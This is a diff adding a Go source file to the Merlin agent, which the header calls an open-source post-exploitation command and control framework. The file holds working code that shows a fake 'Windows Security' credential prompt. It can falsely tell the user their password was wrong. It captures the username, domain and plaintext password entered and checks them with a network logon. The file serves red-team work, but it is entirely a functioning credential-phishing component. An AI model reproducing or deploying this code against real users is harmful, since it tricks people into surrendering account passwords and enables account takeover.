@@ -0,0 +1,125 @@
+//go:build windows
+
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"strings"
+	"unsafe"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/api/advapi32"
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/api/credui"
+)
+
+// promptCredential displays the Windows Security credential prompt with CredUIPromptForWindowsCredentials.
+// When failed is true, the prompt tells the user the user name or password is incorrect.
+// The prompt is only visible when the Agent runs in an interactive user's session
+func promptCredential(caption, message string, failed bool) (cred credential, err error) {
+	if caption == "" {
+		caption = "Windows Security"
+	}
+	if message == "" {
+		message = "Enter your credentials to continue"
+	}
+	captionText, err := windows.UTF16PtrFromString(caption)
+	if err != nil {
+		return cred, fmt.Errorf("there was an error converting the caption to UTF16: %s", err)
+	}
+	messageText, err := windows.UTF16PtrFromString(message)
+	if err != nil {
+		return cred, fmt.Errorf("there was an error converting the message to UTF16: %s", err)
+	}
+	info := credui.CREDUI_INFO{
+		MessageText: messageText,
+		CaptionText: captionText,
+	}
+	info.Size = uint32(unsafe.Sizeof(info))
+
+	var authError uint32
+	if failed {
+		authError = credui.ERROR_LOGON_FAILURE
+	}
+	buffer, size, ret := credui.CredUIPromptForWindowsCredentials(&info, authError, credui.CREDUIWIN_GENERIC)
+	switch ret {
+	case 0:
+	case credui.ERROR_CANCELLED:
+		return cred, errPromptCanceled
+	default:
+		return cred, fmt.Errorf("CredUIPromptForWindowsCredentialsW returned %s", windows.Errno(ret))
+	}
+	defer func() {
+		// Clear the packed credentials before they are freed
+		b := unsafe.Slice((*byte)(buffer), size)
+		for i := range b {
+			b[i] = 0
+		}
+		windows.CoTaskMemFree(buffer)
+	}()
+
+	cred.User, cred.Domain, cred.Password, err = credui.CredUnPackAuthenticationBuffer(buffer, size)
+	if err != nil {
+		return
+	}
+	// The generic prompt returns the user name as it was typed, which can include the domain
+	if cred.Domain == "" {
+		if domain, user, ok := strings.Cut(cred.User, "\\"); ok {
+			cred.Domain, cred.User = domain, user
+		}
+	}
+	return
+}
+
+// verifyCredential checks the credential with a network logon (LOGON32_LOGON_NETWORK) so that no profile is loaded
+func verifyCredential(cred credential) (bool, error) {
+	user, err := windows.UTF16PtrFromString(cred.User)
+	if err != nil {
+		return false, err
+	}
+	// A nil domain is required for user principal names (user@domain)
+	var domain *uint16
+	if cred.Domain != "" {
+		domain, err = windows.UTF16PtrFromString(cred.Domain)
+		if err != nil {
+			return false, err
+		}
+	}
+	password, err := windows.UTF16PtrFromString(cred.Password)
+	if err != nil {
+		return false, err
+	}
+	// LOGON32_LOGON_NETWORK = 3, LOGON32_PROVIDER_DEFAULT = 0
+	token, err := advapi32.LogonUser(user, domain, password, 3, 0)
+	if err != nil {
+		if strings.Contains(err.Error(), windows.ERROR_LOGON_FAILURE.Error()) {
+			return false, nil
+		}
+		return false, err
+	}
+	_ = windows.CloseHandle(windows.Handle(*token))
+	return true, nil
+}